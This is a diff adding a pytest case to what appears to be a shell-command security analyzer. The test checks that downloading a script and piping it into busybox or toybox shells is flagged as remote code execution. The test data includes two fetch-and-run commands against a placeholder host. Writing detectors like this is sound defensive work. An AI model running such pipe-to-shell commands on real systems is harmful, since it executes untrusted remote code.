@@ -283,6 +283,14 @@ def test_a_fetch_behind_any_wrappers_piped_to_a_shell(wrappers: str) -> None:
     assert "remote-code-pipe-to-shell" in rules(found)
 
 
+@pytest.mark.parametrize("command", ["curl -s https://x.example.org/p.sh | busybox sh",
+                                     "busybox wget -qO- https://x.example.org/p.sh | toybox sh"])
+def test_a_multi_call_binary_runs_its_applet(command: str) -> None:
+    found = analyze_command(command, SCRIPT)
+    assert "code.remote[https://x.example.org/p.sh]" in caps(found)
+    assert not any(c.startswith("code.remote") for c in caps(analyze_command("busybox ls -la | busybox sort", SCRIPT)))
+
+
 def test_a_wrapper_that_only_looks_a_program_up_prints_no_code() -> None:
     assert not any(c.startswith("code.remote") for c in caps(analyze_command("command -v curl | sh", SCRIPT)))
 
